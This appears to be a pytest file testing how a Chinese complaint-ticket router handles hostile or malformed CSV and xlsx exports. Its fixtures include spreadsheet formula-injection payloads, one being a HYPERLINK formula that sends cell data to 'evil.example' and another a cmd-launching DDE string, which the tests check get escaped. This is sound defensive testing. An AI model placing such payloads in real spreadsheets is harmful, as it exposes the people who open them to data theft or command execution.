"""Issue #14, hostile or broken exports (items 11-16)."""

from __future__ import annotations

import time
import zipfile
from types import SimpleNamespace

import pandas as pd
import pytest

from sujian_router import read_tickets, route_file
from sujian_router._cli import main
from sujian_router._tickets import MAX_CELL_CHARS, MAX_COLUMNS, iter_ticket_chunks
from sujian_router.exceptions import TicketEncodingError, TicketSchemaError

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1"]


def _read_out(path):
    return pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")


class TestItem11FormulaEscaping:
    @pytest.fixture
    def export(self, tmp_path):
        path = tmp_path / "hostile.csv"
        pd.DataFrame({"ticket_id": HOSTILE, "text": ["楼下广场舞噪音太大"] * len(HOSTILE)}).to_csv(
            path, index=False, encoding="utf-8-sig")
        return path

    def test_item11_route_file_escapes_formula_cells(self, router, export, tmp_path):
        out = tmp_path / "out.csv"
        route_file(export, out, router=router, progress=False)
        got = _read_out(out)["ticket_id"].tolist()
        assert got == ["'" + v.strip() for v in HOSTILE]  # cells are read stripped
        assert not any(v.startswith(("=", "+", "-", "@", "\t")) for v in got)

    def test_item11_escaping_can_be_turned_off_for_machine_consumers(self, saved_router, export, tmp_path):
        out = tmp_path / "raw.csv"
        rc = main(["route-file", str(export), "--out", str(out), "--model", str(saved_router), "--quiet",
                   "--no-escape-formulas"])
        assert rc == 0
        assert _read_out(out)["ticket_id"].tolist() == [v.strip() for v in HOSTILE]

    def test_item11_quarantine_csv_is_escaped(self, tmp_path, monkeypatch, capsys):
        export = tmp_path / "labelled.csv"
        pd.DataFrame({"text": ["路灯不亮"], "label": ["01-01-001"]}).to_csv(export, index=False)
        quarantined = pd.DataFrame({"source_row": [3], "reason": ["empty text"], "text": ['=HYPERLINK("x")'],
                                    "label": ["@1"], "duplicate_of": [""]})
        report = SimpleNamespace(summary=lambda: "ok", to_dict=lambda: {})
        fake = SimpleNamespace(save=lambda path: None, quarantined=quarantined, training_report=report)
        monkeypatch.setattr("sujian_router._train.train", lambda *a, **k: fake)
        qpath = tmp_path / "q.csv"
        assert main(["train", "--tickets", str(export), "--out", str(tmp_path / "m"), "--quarantine",
                     str(qpath), "--quiet"]) == 0
        row = _read_out(qpath).iloc[0]
        assert row["text"] == '\'=HYPERLINK("x")' and row["label"] == "'@1"


class TestItem12MixedEncodings:
    def test_item12_utf8_file_with_one_gbk_row_is_refused_naming_the_line(self, tmp_path):
        path = tmp_path / "mixed.csv"
        path.write_bytes("text,district\n楼下广场舞太吵,坪山区\n".encode("utf-8")
                         + "路灯不亮,福田区\n".encode("gbk") + "垃圾没人清,南山区\n".encode("utf-8"))
        with pytest.raises(TicketEncodingError, match=r"mixed encodings: line 2 is UTF-8.*line 3"):
            read_tickets(path)

    def test_item12_chinese_header_error_names_the_encoding_not_the_columns(self, tmp_path):
        path = tmp_path / "mixed.csv"
        path.write_bytes("诉求内容,区\n".encode("utf-8") + "路灯不亮,福田区\n".encode("gbk"))
        with pytest.raises(TicketEncodingError, match=r"mixed encodings"):
            read_tickets(path)

    @pytest.mark.parametrize("encoding", ["gbk", "gb18030", "utf-8", "utf-8-sig"])
    def test_item12_single_encoding_files_still_read(self, tmp_path, encoding):
        path = tmp_path / "one.csv"
        path.write_bytes("诉求内容,区\n路灯不亮,福田区\n楼下广场舞太吵,坪山区\n".encode(encoding))
        assert read_tickets(path)["text"].tolist() == ["路灯不亮", "楼下广场舞太吵"]


def _workbook(path, rows, *, sheets=None):
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    for title, extra in (sheets or {}).items():
        other = wb.create_sheet(title)
        for row in extra:
            other.append(row)
    wb.save(path)
    return path


def _set_dimension(path, ref):
    """Rewrite the first sheet's declared dimension, as a hostile workbook would."""
    with zipfile.ZipFile(path) as zf:
        members = {i.filename: zf.read(i) for i in zf.infolist()}
    import re

    name = "xl/worksheets/sheet1.xml"
    members[name] = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="' + ref.encode() + b'"', members[name])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for n, data in members.items():
            zf.writestr(n, data)


class TestItem13Xlsx:
    def test_item13_declared_dimension_is_not_trusted(self, tmp_path):
        path = _workbook(tmp_path / "t.xlsx", [["text", "district"], ["路灯不亮", "福田区"], ["广场舞噪音", "坪山区"]])
        _set_dimension(path, "A1:XFD1048576")
        t0 = time.perf_counter()
        df = read_tickets(path)
        assert time.perf_counter() - t0 < 5
        assert list(df.columns) == ["source_row", "text", "district"] and len(df) == 2

    def test_item13_long_xlsx_cell_is_capped_like_csv(self, tmp_path, monkeypatch):
        monkeypatch.setattr("sujian_router._tickets.MAX_CELL_CHARS", 1000)  # openpyxl itself stops at 32,767
        path = _workbook(tmp_path / "t.xlsx", [["text", "ticket_id"], ["噪" * 1010, "A1"]])
        with pytest.raises(TicketSchemaError, match=r"row 2, column 'text' \(column 1\) has a cell of 1,010"):
            read_tickets(path)
        df = read_tickets(path, on_long_cell="truncate")
        assert len(df.loc[0, "text"]) == 1000 and df.attrs["truncated_cells"] == {2: ["text"]}

    def test_item13_huge_text_run_is_refused_before_openpyxl_reads_it(self, tmp_path, monkeypatch):
        monkeypatch.setattr("sujian_router._tickets._HARD_CELL_CHARS", 1000)
        path = _workbook(tmp_path / "t.xlsx", [["text"], ["噪" * 5000]])
        monkeypatch.setattr("openpyxl.load_workbook", lambda *a, **k: pytest.fail("openpyxl reached"))
        with pytest.raises(TicketSchemaError, match=r"holds a text of more than 1,000 characters"):
            read_tickets(path)


class TestItem14WideFiles:
    def test_item14_too_many_columns_are_refused_quickly(self, tmp_path):
        path = tmp_path / "wide.csv"
        n = 40_000
        header = ",".join(["text"] + [f"c{i}" for i in range(n)])
        path.write_text(header + "\n" + "路灯不亮" + "," * n + "\n", encoding="utf-8")
        t0 = time.perf_counter()
        with pytest.raises(TicketSchemaError, match=rf"has 40,001 columns; at most {MAX_COLUMNS:,}"):
            read_tickets(path)
        assert time.perf_counter() - t0 < 5

    def test_item14_wide_file_under_the_cap_reads_in_linear_time(self, tmp_path):
        path = tmp_path / "wide.csv"
        n = MAX_COLUMNS - 1
        header = ",".join(["text"] + ["dup"] * n)  # repeated names: renamed dup, dup.1, ...
        rows = "\n".join("路灯不亮" + ",x" * n for _ in range(20))
        path.write_text(header + "\n" + rows + "\n", encoding="utf-8")
        t0 = time.perf_counter()
        df = read_tickets(path)
        assert time.perf_counter() - t0 < 10
        assert df.shape == (20, MAX_COLUMNS + 1) and f"dup.{n - 1}" in df.columns


class TestItem15LongCsvCells:
    @pytest.fixture
    def export(self, tmp_path):
        path = tmp_path / "long.csv"
        long_text = "楼下施工噪音" * 30_000  # 180,000 characters, over the csv module's 131,072
        pd.DataFrame({"ticket_id": ["1", "2", "3"], "text": ["路灯不亮", long_text, "广场舞噪音"]}).to_csv(
            path, index=False, encoding="utf-8-sig")
        return path

    def test_item15_error_names_row_and_column(self, export):
        with pytest.raises(TicketSchemaError, match=r"row 3, column 'text' \(column 2\).*on_long_cell='truncate'"):
            read_tickets(export)

    def test_item15_truncate_keeps_and_notes_the_row(self, export):
        df = read_tickets(export, on_long_cell="truncate")
        assert df["ticket_id"].tolist() == ["1", "2", "3"]
        assert len(df.loc[1, "text"]) == MAX_CELL_CHARS
        assert any("row 3" in n for n in df.attrs["notes"])

    def test_item15_route_file_can_truncate_and_flag_the_row(self, router, export, tmp_path):
        out = tmp_path / "out.csv"
        with pytest.raises(TicketSchemaError, match="row 3"):
            route_file(export, out, router=router, progress=False, chunk_size=2)
        rep = route_file(export, out, router=router, progress=False, chunk_size=2, on_long_cell="truncate")
        got = _read_out(out)
        assert rep.rows_written == 3 and got["ticket_id"].tolist() == ["1", "2", "3"]
        assert "cell_truncated" in got.loc[1, "flags"] and got.loc[1, "needs_review"] == "True"
        assert "cell_truncated" not in got.loc[0, "flags"]

    def test_item15_chunks_keep_the_truncation_record(self, export):
        chunks = list(iter_ticket_chunks(export, chunk_size=1, on_long_cell="truncate"))
        assert [c.attrs["truncated_cells"] for c in chunks] == [{}, {3: ["text"]}, {}]


class TestItem16ExplicitMapping:
    def test_item16_mapped_column_missing_from_the_file_is_an_error(self, tmp_path):
        path = tmp_path / "e.csv"
        pd.DataFrame({"诉求内容": ["路灯不亮"], "区": ["福田区"]}).to_csv(path, index=False, encoding="utf-8-sig")
        with pytest.raises(TicketSchemaError, match=r"column_mapping names \['投诉描述'\].*found \['诉求内容', '区'\]"):
            read_tickets(path, column_mapping={"投诉描述": "text"})

    def test_item16_cli_text_column_that_is_missing_is_an_error(self, saved_router, tmp_path, capsys):
        path = tmp_path / "e.csv"
        pd.DataFrame({"诉求内容": ["路灯不亮"]}).to_csv(path, index=False, encoding="utf-8-sig")
        rc = main(["route-file", str(path), "--out", str(tmp_path / "o.csv"), "--model", str(saved_router),
                   "--quiet", "--text-column", "投诉描述"])
        assert rc == 1 and "投诉描述" in capsys.readouterr().err

    def test_item16_present_mapping_still_wins_over_the_default(self, tmp_path):
        path = tmp_path / "e.csv"
        pd.DataFrame({"诉求内容": ["默认列"], "投诉描述": ["映射列"]}).to_csv(path, index=False, encoding="utf-8-sig")
        assert read_tickets(path, column_mapping={"投诉描述": "text"})["text"].tolist() == ["映射列"]
